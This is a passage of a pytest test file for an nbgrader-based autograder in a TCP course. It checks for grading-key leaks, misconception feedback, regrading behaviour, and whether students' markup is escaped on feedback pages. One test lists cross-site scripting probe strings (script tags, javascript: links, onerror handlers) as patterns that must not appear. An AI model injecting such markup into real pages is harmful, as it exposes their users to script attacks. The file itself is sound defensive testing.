    key = read_key(Path(os.environ["TCPCOURSE_GRADING_KEY"]))
    question = assignments()[NAME].question("q6")
    text = everything(graded.root, "autograded")
    assert "SEEN 1" not in text and "an answer to 1" not in text
    for student in CASES:
        for call in question.challenges(problem(student), key):
            for number in call:
                # 2**32 - 1 is public, and a short number may stand there for other reasons
                assert number == 2**32 - 1 or number < 10**7 or str(number) not in text


def test_a_wrong_answer_is_told_what_to_think_about(graded: Graded) -> None:
    """The misconceptions have their sentences below the mark."""
    path = graded.root / "autograded" / "misconceived" / NAME / f"{NAME}.ipynb"
    book = json.loads(path.read_text(encoding="utf-8"))
    shown = {
        c["metadata"].get("nbgrader", {}).get("grade_id"): json.dumps(c.get("outputs"))
        for c in book["cells"]
    }
    assert "Did you forget the SYN?" in shown["q1"]
    assert "You left out how long the opener waited" in shown["q5"]
    assert "The SYN takes up one number, so the ack is one more than its seq." in shown["q6"]


@pytest.mark.parametrize("student", ["perfect-1", "x-markup", "x-forged-outputs", "written-markup",
                                     "markup-name", "damaged", "linked"])  # fmt: skip
def test_feedback_and_formgrader_show_no_students_markup(
    graded: Graded, klass: Any, student: str
) -> None:
    """nbgrader's own feedback and its page for graders, with what students wrote."""
    done = klass.api().generate_feedback(NAME, student)
    assert done["success"], done["log"]
    pages = [(graded.root / "feedback" / student / NAME / f"{NAME}.html").read_text("utf-8")]
    pages.append(formgraded(graded.root, student))
    for page in pages:
        for number in range(1, 8):
            assert f"<script>alert({number})" not in page
            assert f'href="javascript:alert({number}' not in page
            assert f"onerror=alert({number})>" not in page.replace("&lt;img", "")
        assert graded.canary not in page
    if student == "perfect-1":
        assert "All right." in pages[0]
        assert "answer_to_syn is right for all inputs it was tried on." in pages[0]
    if student == "x-markup":
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[0]
    if student == "linked":
        assert not (graded.root / "feedback" / student / NAME / "more.txt").exists()
    if student == "damaged":
        assert "file is damaged" in pages[0]


def formgraded(root: Path, student: str) -> str:
    """The page on which the formgrader shows a submission."""
    import nbgrader.server_extensions.formgrader as formgrader
    from nbconvert.exporters import HTMLExporter

    exporter = HTMLExporter(
        template_name="formgrade",
        extra_template_basedirs=[str(Path(formgrader.__file__).parent / "templates")],
    )
    about = {"assignment_id": NAME, "notebook_id": NAME, "submission_id": "1", "index": 0,
             "total": 1, "base_url": "", "mathjax_url": "", "student": student, "last_name": None,
             "first_name": None, "notebook_path": "", "keywords": []}  # fmt: skip
    path = root / "autograded" / student / NAME / f"{NAME}.ipynb"
    return str(exporter.from_filename(str(path), resources=about)[0])


def test_graded_again_nothing_is_run_again(graded: Graded) -> None:
    """A second batch finds all marks; one that is handed in anew is graded anew."""
    kept = {path: path.stat().st_mtime_ns for path in (graded.root / "marks").rglob("*.json")}
    report = autograde(graded.root, NAME)
    assert (report.graded, report.kept) == (0, len(kept))
    assert {path: path.stat().st_mtime_ns for path in kept} == kept
    assert report.lines == graded.report.lines
